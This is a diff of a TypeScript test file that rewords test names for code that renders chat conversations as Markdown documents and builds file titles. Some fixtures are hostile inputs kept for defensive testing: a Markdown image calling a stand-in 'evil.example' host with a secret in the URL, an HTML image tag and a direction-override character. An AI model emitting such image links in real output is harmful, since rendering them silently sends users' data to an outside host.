@@ -46,8 +46,8 @@ function conversation(...exchanges: Exchange[]): Conversation {
   return { ...conversationOf(...exchanges), id: 'c', title: 'About parsers' };
 }
 
-describe('The document of a conversation', () => {
-  it('gives the line of the heading of each shown turn', () => {
+describe('Document of a conversation', () => {
+  it('returns the line of the heading of each shown turn', () => {
     const open = conversation(
       exchange('one\ntwo\nthree', [turn('a', 'first\n\nanswer')]),
       exchange('again?', [turn('b', 'no'), turn('c', 'yes')], 1),
@@ -61,24 +61,24 @@ describe('The document of a conversation', () => {
     assert.equal(rows[lines.get('d') ?? -1], '## svc-k3 d 1/1');
   });
 
-  it('shows the attempt that is shown, and no other', () => {
+  it('contains only the attempt that is shown', () => {
     const { text } = toDocument(conversation(exchange('?', [turn('a', 'old'), turn('b', 'new')], 0)), WORDS);
     assert.match(text, /old/);
     assert.doesNotMatch(text, /new/);
   });
 
-  it('says so when there is no answer text', () => {
+  it('says that there is no answer text', () => {
     const { text } = toDocument(conversation(exchange('?', [turn('a', ' \n')])), WORDS);
     assert.match(text, /No answer text\./);
   });
 
-  it('keeps an answer inside its fence, whatever fences it has itself', () => {
+  it('keeps an answer inside its fence even if the answer contains fences', () => {
     const answer = '````\n```\n![x](https://evil.example/?q=secret)\n```\n````\n';
     const { text } = toDocument(conversation(exchange('?', [turn('a', answer)])), WORDS);
     assert.ok(text.includes(`\`\`\`\`\`md\n${answer}\`\`\`\`\``), text);
   });
 
-  it('lets neither a title nor a note name an image or a link', () => {
+  it('does not render links or images from a title or a note', () => {
     const open = { ...conversation(), title: '![x](https://evil.example)\n# <img src=x>' };
     assert.equal(
       toDocument(open, WORDS).text.split('\n')[0],
@@ -87,31 +87,31 @@ describe('The document of a conversation', () => {
   });
 });
 
-describe('A text in a fence', () => {
-  it('stands line by line as it came, so many lines further down', () => {
+describe('Fenced document', () => {
+  it('contains the text line by line, with the number of lines above it', () => {
     const { text, linesAbove } = toFenced('one\r\n\r\ntwo\nthree');
     assert.equal(text.split('\n')[linesAbove + 2], 'two');
   });
 
-  it('has no line where only an editor sees one', () => {
+  it('has the same lines in the editor as in the outline', () => {
     assert.equal(toFenced('a\rb\nc').text, '```md\na b\nc\n```');
   });
 });
 
-describe('A name for a tab', () => {
-  it('is the first line, without what paths cannot hold', () => {
+describe('File title', () => {
+  it('is the first line without characters that are invalid in paths', () => {
     assert.equal(toFileTitle('  Why does a/b:c? fail\nsecond', 'none'), 'Why does a b c fail');
   });
-  it('is cut, and never in the middle of a character', () => {
+  it('is shortened without splitting a character', () => {
     const title = toFileTitle('🙂'.repeat(40), 'none');
     assert.ok(title.length <= 48 && title.isWellFormed(), title);
   });
-  it('falls back when nothing is left', () => assert.equal(toFileTitle('../..', 'none'), 'none'));
-  it('hides no direction marks', () => assert.equal(toFileTitle('a\u202Eb', 'none'), 'a b'));
+  it('uses the fallback if nothing is left', () => assert.equal(toFileTitle('../..', 'none'), 'none'));
+  it('contains no direction marks', () => assert.equal(toFileTitle('a\u202Eb', 'none'), 'a b'));
 });
 
 describe('Escaped Markdown', () => {
-  it('is one line in which nothing means anything', () => {
+  it('is one line without Markdown syntax', () => {
     assert.equal(escapeMarkdown('a | *b*\n`c` &amp;'), 'a \\| \\*b\\* \\`c\\` \\&amp;');
   });
 });
